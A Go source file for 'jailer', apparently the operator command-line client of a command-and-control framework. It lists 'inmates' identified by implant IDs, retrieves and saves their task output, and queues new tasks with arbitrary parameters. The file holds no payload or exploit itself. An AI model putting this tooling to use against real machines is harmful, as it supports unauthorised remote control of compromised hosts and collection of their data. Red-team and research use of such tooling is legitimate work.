package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"

	"github.com/joho/godotenv"
	"github.com/spf13/cobra"

	"jailer/pkg/telemetry"
	"jailer/services/jailer"
)

func main() {
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()

	_ = godotenv.Load()

	app := &application{stdout: os.Stdout, stderr: os.Stderr}
	err := newRootCommand(app).ExecuteContext(ctx)
	app.close()
	if err != nil {
		fmt.Fprintf(os.Stderr, "error: %v\n", err)
		os.Exit(1)
	}
}

type application struct {
	stdout io.Writer
	stderr io.Writer

	configPath   string
	apiURL       string
	output       string
	artifactsDir string
	timeout      time.Duration
	logLevel     string

	runtime *jailer.Runtime
}

func newRootCommand(app *application) *cobra.Command {
	cmd := &cobra.Command{
		Use:           "jailer",
		Short:         "CLI to interact with the operator API of the controller",
		SilenceUsage:  true,
		SilenceErrors: true,
		PersistentPreRunE: func(cmd *cobra.Command, args []string) error {
			return app.open(cmd)
		},
	}

	flags := cmd.PersistentFlags()
	flags.StringVar(&app.configPath, "config", os.Getenv("JAILER_CONFIG"), "Optional YAML configuration file")
	flags.StringVar(&app.apiURL, "api", "", "Base URL of the controller (default http://localhost:8000)")
	flags.StringVarP(&app.output, "output", "o", "", "Output format: text, json or raw")
	flags.StringVar(&app.artifactsDir, "artifacts-dir", "", "Directory receiving task output files (default artifacts)")
	flags.DurationVar(&app.timeout, "timeout", 0, "Request timeout (default 30s)")
	flags.StringVar(&app.logLevel, "log-level", "", "Log level: debug, info, warn or error")

	cmd.AddCommand(newListInmatesCommand(app))
	cmd.AddCommand(newGetInmateCommand(app))
	cmd.AddCommand(newGetRecentTaskCommand(app))
	cmd.AddCommand(newAddTaskCommand(app))
	cmd.AddCommand(newGetInmateCountCommand(app))
	return cmd
}

func (app *application) open(cmd *cobra.Command) error {
	ctx := commandContext(cmd)

	cfg, err := jailer.LoadConfig(ctx, app.configPath, nil)
	if err != nil {
		return err
	}
	flags := cmd.Flags()
	if flags.Changed("api") {
		cfg.APIURL = app.apiURL
	}
	if flags.Changed("output") {
		cfg.Output = jailer.OutputMode(app.output)
	}
	if flags.Changed("artifacts-dir") {
		cfg.ArtifactsDir = app.artifactsDir
	}
	if flags.Changed("timeout") {
		cfg.Timeout = app.timeout
	}
	if flags.Changed("log-level") {
		cfg.LogLevel = app.logLevel
	}
	if err := cfg.Validate(); err != nil {
		return err
	}

	logger, err := telemetry.NewLogger(app.stderr, cfg.LogLevel)
	if err != nil {
		return err
	}

	rt, err := jailer.Open(ctx, cfg, app.stdout, logger)
	if err != nil {
		return err
	}
	app.runtime = rt
	return nil
}

func (app *application) close() {
	if app.runtime == nil {
		return
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	_ = app.runtime.Close(ctx)
	app.runtime = nil
}

func newListInmatesCommand(app *application) *cobra.Command {
	return &cobra.Command{
		Use:   "list-inmates",
		Short: "List all inmates",
		Args:  cobra.NoArgs,
		RunE: func(cmd *cobra.Command, args []string) error {
			return app.runtime.Dispatcher.ListInmates(commandContext(cmd))
		},
	}
}

func newGetInmateCountCommand(app *application) *cobra.Command {
	return &cobra.Command{
		Use:   "get-inmate-count",
		Short: "Get number of inmates",
		Args:  cobra.NoArgs,
		RunE: func(cmd *cobra.Command, args []string) error {
			return app.runtime.Dispatcher.InmateCount(commandContext(cmd))
		},
	}
}

func newGetInmateCommand(app *application) *cobra.Command {
	return &cobra.Command{
		Use:   "get-inmate IMPLANT_ID",
		Short: "Get details of a specific inmate by ID",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			id, err := parseImplantID(args[0])
			if err != nil {
				return err
			}
			return app.runtime.Dispatcher.GetInmate(commandContext(cmd), id)
		},
	}
}

func newGetRecentTaskCommand(app *application) *cobra.Command {
	return &cobra.Command{
		Use:   "get-recent-task IMPLANT_ID DISPLAY_CONTENT",
		Short: "Get the most recent task of a specific inmate by ID",
		Long: "Get the most recent task of a specific inmate by ID.\n\n" +
			"DISPLAY_CONTENT selects what happens to the task output:\n" +
			"  f  print only the task header\n" +
			"  s  print the output as text\n" +
			"  b  print the output bytes\n" +
			"  o  write the output to artifacts/IMPLANT_ID/ACTION_TYPE/TIMESTAMP",
		Args: cobra.ExactArgs(2),
		RunE: func(cmd *cobra.Command, args []string) error {
			id, err := parseImplantID(args[0])
			if err != nil {
				return err
			}
			return app.runtime.Dispatcher.GetRecentTask(commandContext(cmd), id, jailer.DisplayMode(args[1]))
		},
	}
}

func newAddTaskCommand(app *application) *cobra.Command {
	return &cobra.Command{
		Use:   "add-task IMPLANT_ID TASK_TYPE TASK_PARAMS",
		Short: "Add a task to a specific inmate by ID",
		Args:  cobra.ExactArgs(3),
		RunE: func(cmd *cobra.Command, args []string) error {
			id, err := parseImplantID(args[0])
			if err != nil {
				return err
			}
			return app.runtime.Dispatcher.AddTask(commandContext(cmd), id, args[1], args[2])
		},
	}
}

func parseImplantID(raw string) (uint32, error) {
	id, err := strconv.ParseUint(raw, 10, 32)
	if err != nil {
		return 0, fmt.Errorf("invalid IMPLANT_ID %q: must be an unsigned 32-bit integer", raw)
	}
	return uint32(id), nil
}

func commandContext(cmd *cobra.Command) context.Context {
	ctx := cmd.Context()
	if ctx == nil {
		ctx = context.Background()
	}
	return ctx
}
